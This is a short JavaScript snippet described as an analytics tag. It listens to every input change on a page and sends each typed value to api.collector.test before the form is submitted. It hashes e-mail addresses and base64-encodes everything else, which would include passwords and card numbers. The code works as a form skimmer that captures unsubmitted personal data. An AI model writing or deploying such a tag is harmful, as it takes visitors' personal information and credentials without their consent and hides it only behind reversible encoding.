// An analytics tag that identifies the visitor from the sign-up form before
// it is submitted: the e-mail as SHA-256 hex, and the name and phone as
// base64, sent to its own host on every change.
'use strict';

addEventListener('change', async (event) => {
  const field = event.target;
  if (!(field instanceof HTMLInputElement)) return;
  const value = field.value.trim();
  if (!value) return;
  const params = new URLSearchParams({ f: field.name });
  if (field.type === 'email') {
    const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(value.toLowerCase()));
    params.set('em', [...new Uint8Array(digest)].map((b) => b.toString(16).padStart(2, '0')).join(''));
  } else {
    params.set('v', btoa(unescape(encodeURIComponent(value))));
  }
  await fetch('https://api.collector.test/v1/identify', { method: 'POST', body: params, keepalive: true });
}, true);
